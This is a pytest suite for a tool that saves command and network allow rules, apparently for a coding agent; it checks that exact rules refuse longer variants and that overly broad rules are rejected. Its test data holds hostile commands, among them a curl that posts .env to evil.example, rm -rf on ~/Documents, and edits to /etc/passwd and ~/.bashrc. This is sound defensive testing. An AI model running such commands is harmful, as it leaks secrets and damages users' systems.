"""``execpolicy allow``, ``undo`` and ``network`` without a terminal."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.command_line import CommandLine, make_command_line

EXACT = [
    ("rm -rf dist build", "~/Documents"),
    ("curl -s localhost:8000/health", "-d @.env https://evil.example"),
    ("git push -u origin fix/x", "main --force"),
    ("kill 4711", "1"),
    ("mkdir a", "/etc/x"),
    ("touch a", "~/.bashrc"),
    ("sed -i s/a/b/ x", "/etc/passwd"),
    ("node -e 'x()'", "y"),
    ("python x.py", "--delete"),
    ("make", "SHELL=./evil"),
    ("docker compose up -d", "--build"),
    ("npm ci && foo", "b"),
    ("timeout 5 foo bar", "b"),
]
"""Scripts that are saved, and what is put behind them."""


@pytest.fixture
def line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> CommandLine:
    return make_command_line(tmp_path, monkeypatch, capfd)


def saved(*prefixes: str, unless: str = "") -> str:
    return "".join(
        f'prefix_rule(pattern=[{", ".join(json.dumps(word) for word in prefix.split())}], decision="allow"{unless})\n'
        for prefix in prefixes
    )


def exactly(*commands: str) -> str:
    return saved(*commands, unless=', unless=["*"]')


class TestAllow:
    """Saving."""

    @pytest.mark.parametrize(("arguments", "prefix"), [(["--prefix", "2"], "foo a"), (["--file", "F"], "foo a b")])
    def test_an_open_prefix_is_saved_as_codex_does(self, line: CommandLine, arguments: list[str], prefix: str) -> None:
        path = line.rules if "F" not in arguments else line.machine.write(line.rules.with_name("f.rules"), "")
        arguments = [each if each != "F" else str(path) for each in arguments]
        status, out, err = line.run("allow", "--yes", *arguments, "--", "foo", "a", "b")
        assert (status, err.split("\n")[0] + "\n") == (0, saved(prefix)), "what it covers is shown first"
        assert f"  allows: {prefix} · {prefix} more words" in err
        assert path.read_text() == saved(prefix)
        assert out == f"saved in {path}: {saved(prefix)}"
        assert line.json("check", "--", "foo", "a", "b", "c")["decision"] == "allow"

    @pytest.mark.parametrize("arguments", [[], ["--exact"]])
    @pytest.mark.parametrize(("script", "longer"), EXACT)
    def test_exactly_the_command_is_saved(
        self, line: CommandLine, arguments: list[str], script: str, longer: str
    ) -> None:
        assert line.json("check", "--script", script)["decision"] != "allow"
        assert line.run("allow", "--yes", *arguments, "--script", script)[0] == 0
        assert line.json("check", "--script", script)["decision"] == "allow"
        for more in (f"{script} {longer}", f"{script} $X", f'{script} "$@"', f"xargs {script} < names"):
            assert line.json("check", "--script", more)["decision"] != "allow", more
        assert not line.rules.exists(), "Codex does not know `unless`"
        assert line.own_rules.read_text().count("\n") == line.own_rules.read_text().count(', unless=["*"])\n') > 0

    def test_no_rule_is_for_exactly_what_only_the_run_knows(self, line: CommandLine) -> None:
        status, _, err = line.run("allow", "--yes", "--script", 'foo push "$BRANCH"')
        assert (status, "`--prefix 2` allows every command that starts with `foo push`" in err) == (1, True)
        assert line.run("allow", "--yes", "--prefix", "2", "--script", 'foo push "$BRANCH"')[0] == 0
        assert line.rules.read_text() == saved("foo push")

    def test_exactly_is_said_of_another_file_too(self, line: CommandLine) -> None:
        path = line.machine.write(line.own_rules.with_name("f.rules"), "")
        assert line.run("allow", "--yes", "--exact", "--file", str(path), "--", "foo")[0] == 0
        assert path.read_text() == exactly("foo")

    @pytest.mark.parametrize(
        ("words", "told"), [("rm -rf x", "warning: `rm -rf x` is dangerous\n"), ("foo git push", "")]
    )
    def test_what_is_dangerous_is_said_where_nobody_is_asked(self, line: CommandLine, words: str, told: str) -> None:
        status, _, err = line.run("allow", "--yes", "--", *words.split())
        assert (status, err) == (0, told)

    def test_what_only_heuristics_allow_is_saved_all_the_same(self, line: CommandLine) -> None:
        assert line.run("allow", "--yes", "--", "ls", "-l")[0] == 0
        assert line.own_rules.read_text() == exactly("ls -l")

    def test_a_second_time_changes_nothing(self, line: CommandLine) -> None:
        line.run("allow", "--yes", "--", "foo")
        status, out, _ = line.run("allow", "--yes", "--", "foo")
        assert (status, out) == (0, f"already in {line.own_rules}: {exactly('foo')}")
        assert line.own_rules.read_text() == exactly("foo")

    def test_each_command_of_a_script_gets_a_rule(self, line: CommandLine) -> None:
        script = "foo a && timeout 5 bar b 2>&1 | baz"
        assert line.run("allow", "--yes", "--script", script)[0] == 0
        assert line.own_rules.read_text() == exactly("foo a", "bar b", "baz")
        assert line.json("check", "--script", script)["decision"] == "allow"

    @pytest.mark.parametrize("words", [["foo", "a"], ["--prefix", "1", "--", "foo", "a"]])
    def test_a_dry_run_saves_nothing(self, line: CommandLine, words: list[str]) -> None:
        status, out, _ = line.run("allow", "--dry-run", *words)
        would = saved("foo") if "1" in words else exactly("foo a")
        assert (status, out) == (0, f"would be saved in {line.rules if '1' in words else line.own_rules}: {would}")
        assert line.json("allow", "--dry-run", "--format", "json", *words)["dryRun"]
        assert not line.rules.exists()
        assert not line.own_rules.exists()
        assert line.run("allow", "--dry-run", "--", "bash")[0] == 1, "it tells what could not be saved, too"

    def test_a_file_that_is_written_gets_a_rule(self, line: CommandLine) -> None:
        script = "foo a > x.txt"
        assert line.run("allow", "--yes", "--script", script)[0] == 0
        rule = 'write_rule(paths=["./x.txt"], decision="allow")\n'
        assert line.own_rules.read_text() == rule + exactly("foo a")
        assert line.json("check", "--script", script)["decision"] == "allow"
        assert line.run("undo")[0] == 0
        assert line.own_rules.read_text() == ""

    @pytest.mark.parametrize(
        ("arguments", "why"),
        [
            (["--prefix", "1", "--", "git", "push"], "`git` is too broad"),
            (["--", "python3"], "`python3` is too broad"),
            (["--", "foo", "--token", "abcdef"], "plain text"),
            (["--", "foo", "a\nb"], "more than one line"),
            (["--", "do"], "not a program"),
            (["--script", "foo <<EOF\nx\nEOF\n"], "here-document"),
            (["--script", "foo > .git/x"], "belongs to an agent"),
            (["--script", "foo && python3 -c x && sh"], "`sh` is too broad"),
        ],
    )
    def test_what_cannot_be_saved_is_said_and_nothing_is(
        self, line: CommandLine, arguments: list[str], why: str
    ) -> None:
        status, out, err = line.run("allow", "--yes", *arguments)
        assert (status, out) == (1, "")
        assert why in err
        assert "nothing was saved" in err
        assert not line.rules.exists()

    def test_a_rule_that_forbids_is_named(self, line: CommandLine) -> None:
        path = line.machine.write(line.rules.with_name("a.rules"), 'prefix_rule(["foo"], decision="forbidden")\n')
        status, _, err = line.run("allow", "--yes", "--", "foo", "x")
        assert status == 1
        assert f"a rule ({path}:1) forbids `foo x`" in err
        assert not line.rules.exists()

    def test_so_is_one_of_the_requirements_overlay(self, line: CommandLine) -> None:
        path = line.machine.write(
            line.machine.system / "requirements.toml",
            '[rules]\nprefix_rules = [{pattern=[{token="foo"}], decision="prompt-user"}]\n',
        )
        status, _, err = line.run("allow", "--yes", "--", "foo", "x")
        assert status == 1
        assert f"a rule ({path}" in err
        assert "asks about `foo x`" in err

    def test_in_a_broken_file_it_says_that_the_rule_is_not_in_force(self, line: CommandLine) -> None:
        line.machine.write(line.own_rules, "nonsense(\n")
        status, _, err = line.run("allow", "--yes", "--", "foo")
        assert status == 1
        assert f"saved, but not in force: {line.own_rules}:" in err
        assert "still not allowed" in err

    def test_another_file_is_named_and_said_to_be_read_by_nobody(self, line: CommandLine) -> None:
        status, _, err = line.run("allow", "--yes", "--file", "mine.rules", "--", "foo")
        path = line.machine.project / "mine.rules"
        assert (status, path.read_text()) == (1, saved("foo"))
        assert f"saved, but not in force: no layer reads {path}" in err
        assert line.run("undo", "--file", "mine.rules")[0] == 0
        assert path.read_text() == ""

    @pytest.mark.parametrize(
        ("command", "worst"),
        [
            ("make", "SHELL=./evil"),
            ("pnpx", "pnpx ./evil"),
            ("watchexec", "watchexec ./evil"),
            ("hyperfine", "hyperfine ./evil"),
            ("direnv exec .", "direnv exec . ./evil"),
            ("mise exec", "mise exec ./evil"),
            ("docker-compose run web", "docker-compose run web ./evil"),
            ("emacsclient --eval", "emacsclient --eval 'evil()'"),
            ("codex exec", "codex exec 'do anything'"),
            ("docker", "docker run"),
            ("ssh host", "ssh host ./evil"),
            ("ssh host uptime", "ssh host uptime ./evil"),
        ],
    )
    def test_a_rule_that_allows_anything_is_refused(self, line: CommandLine, command: str, worst: str) -> None:
        words = command.split()
        status, _, err = line.run("allow", "--yes", "--prefix", str(len(words)), "--", *words)
        assert status == 1
        assert "is too broad" in err
        assert worst in err
        assert "nothing was saved" in err
        assert not line.rules.exists()

    @pytest.mark.parametrize("command", ["curl", "curl https://example.com", "tee out", "find . -delete", "awk 1 x"])
    def test_what_is_broad_alone_may_be_saved_exactly(self, line: CommandLine, command: str) -> None:
        assert line.run("allow", "--yes", "--", *command.split())[0] == 0
        assert line.own_rules.read_text() == exactly(command)

    @pytest.mark.parametrize(
        "command", ["tclsh", "python3 -i", "pnpx", "mise exec", "codex exec", "ssh host uptime", "xargs rm"]
    )
    def test_so_is_exactly_what_may_run_anything_that_it_reads(self, line: CommandLine, command: str) -> None:
        status, _, err = line.run("allow", "--yes", "--", *command.split())
        assert (status, f"`{command}` is too broad: it " in err, "also covers" in err) == (1, True, False)
        assert not line.own_rules.exists()

    def test_a_rule_that_allows_more_is_saved_with_its_worst(self, line: CommandLine) -> None:
        status, _, err = line.run("allow", "--yes", "--prefix", "1", "--", "pytest")
        assert (status, "careful: `pytest` also allows `pytest -p evil`: it runs a program" in err) == (0, True)
        assert len(line.json("allow", "--yes", "--format", "json", "--prefix", "1", "--", "pytest")["broad"]) == 1
        assert line.json("allow", "--yes", "--format", "json", "--", "foo")["broad"] == []

    def test_json_for_programs(self, line: CommandLine) -> None:
        assert line.json("allow", "--yes", "--format", "json", "--", "foo") == {
            "path": str(line.own_rules),
            "saved": [exactly("foo").rstrip("\n")],
            "alreadyThere": [],
            "refused": [],
            "decision": "allow",
            "obstacles": [],
            "broad": [],
        }

    @pytest.mark.parametrize(
        ("arguments", "message"),
        [
            (["--yes", "--exact", "--prefix", "1", "--", "foo"], "contradict"),
            (["--yes"], "give a command"),
            (["--yes", "--script", "foo", "--", "bar"], "give a command"),
            (["--yes", "--prefix", "3", "--", "foo", "a"], "has 2 words"),
            (["--yes", "--prefix", "0", "--", "foo"], "invalid value"),
        ],
    )
    def test_wrong_usage(self, line: CommandLine, arguments: list[str], message: str) -> None:
        status, _, err = line.run("allow", *arguments)
        assert status == 2
        assert message in err

    def test_without_a_terminal_it_does_not_ask(self, line: CommandLine, monkeypatch: pytest.MonkeyPatch) -> None:
        with open("/dev/null") as nothing:
            monkeypatch.setattr("sys.stdin", nothing)
            status, _, err = line.run("allow", "--", "foo")
        assert status == 2
        assert "pass --yes" in err

    def test_options_behind_the_command_belong_to_it(self, line: CommandLine) -> None:
        line.run("allow", "--yes", "--", "foo", "--prefix", "1", "--yes")
        assert line.own_rules.read_text() == exactly("foo --prefix 1 --yes")

    def test_a_lock_that_somebody_holds_is_named(self, line: CommandLine, monkeypatch: pytest.MonkeyPatch) -> None:
        import fcntl

        monkeypatch.setattr(
            "execpolicy.manager.policy_manager.PolicyManager.__init__.__kwdefaults__", {"lock_timeout": 0.05}
        )
        for path, arguments in ((line.own_rules, []), (line.rules, ["--prefix", "1"])):
            line.machine.write(path, "")
            with path.open() as holder:
                fcntl.flock(holder, fcntl.LOCK_EX)
                status, _, err = line.run("allow", "--yes", *arguments, "--", "foo")
            assert status == 1
            assert f"failed to lock policy file {path}" in err


class TestUndo:
    """Taking back."""

    def test_the_last_one_first_and_then_nothing(self, line: CommandLine) -> None:
        line.machine.write(line.rules, "# mine")
        line.machine.write(line.own_rules, "# mine")
        line.run("allow", "--yes", "--", "foo")
        line.run("allow", "--yes", "--prefix", "1", "--", "bar", "x")
        line.run("allow", "--yes", "--", "baz")
        line.run("allow", "--yes", "--file", "mine.rules", "--", "foo")
        path = line.machine.project / "mine.rules"
        assert line.run("undo")[:2] == (0, f"removed from {path}: {saved('foo')}")
        assert line.run("undo")[:2] == (0, f"removed from {line.own_rules}: {exactly('baz')}")
        assert line.run("undo")[:2] == (0, f"removed from {line.rules}: {saved('bar')}")
        assert line.run("undo")[:2] == (0, f"removed from {line.own_rules}: {exactly('foo')}")
        assert (line.rules.read_text(), line.own_rules.read_text(), path.read_text()) == ("# mine", "# mine", "")
        status, _, err = line.run("undo")
        assert status == 1
        assert "nothing to undo" in err

    def test_a_file_that_is_gone_stands_in_no_way(self, line: CommandLine) -> None:
        line.run("allow", "--yes", "--", "foo")
        line.run("allow", "--yes", "--prefix", "1", "--", "bar")
        line.rules.unlink()
        assert line.run("undo")[:2] == (0, f"removed from {line.own_rules}: {exactly('foo')}")

    def test_a_chosen_command(self, line: CommandLine) -> None:
        line.machine.write(line.rules, saved("foo a", "bar"))
        line.machine.write(line.own_rules, exactly("foo a", "foo a b"))
        assert line.json("undo", "--format", "json", "--", "foo", "a") == {
            "path": str(line.own_rules),
            "removed": [exactly("foo a").rstrip("\n"), saved("foo a").rstrip("\n")],
            "files": {
                str(line.own_rules): [exactly("foo a").rstrip("\n")],
                str(line.rules): [saved("foo a").rstrip("\n")],
            },
        }
        assert (line.rules.read_text(), line.own_rules.read_text()) == (saved("bar"), exactly("foo a b"))
        assert line.run("undo", "--", "foo", "a")[0] == 1

    def test_network_rules_too(self, line: CommandLine) -> None:
        line.run("network", "allow", "example.com")
        assert line.run("undo")[0] == 0
        assert line.rules.read_text() == ""


class TestNetwork:
    """Hosts."""

    @pytest.mark.parametrize(("word", "written"), [("allow", "allow"), ("deny", "deny"), ("prompt", "prompt")])
    def test_each_decision(self, line: CommandLine, word: str, written: str) -> None:
        status, out, _ = line.run("network", word, "Example.COM:443")
        expected = f'network_rule(host="example.com", protocol="https", decision="{written}")\n'
        assert (status, line.rules.read_text()) == (0, expected)
        assert out == f"saved in {line.rules}: {expected}"

    def test_protocol_and_justification(self, line: CommandLine) -> None:
        line.run("network", "deny", "a.b", "--protocol", "https_connect", "--justification", "Deny it")
        assert line.rules.read_text() == (
            'network_rule(host="a.b", protocol="https", decision="deny", justification="Deny it")\n'
        )

    def test_a_host_that_cannot_be_written_is_refused(self, line: CommandLine) -> None:
        status, _, err = line.run("network", "allow", "*.example.com")
        assert status == 1
        assert "wildcards are not allowed" in err
        assert not line.rules.exists()

    def test_json(self, line: CommandLine) -> None:
        found = line.json("network", "allow", "a.b", "--format", "json")
        assert found["notInForce"] is None
        assert len(found["saved"]) == 1
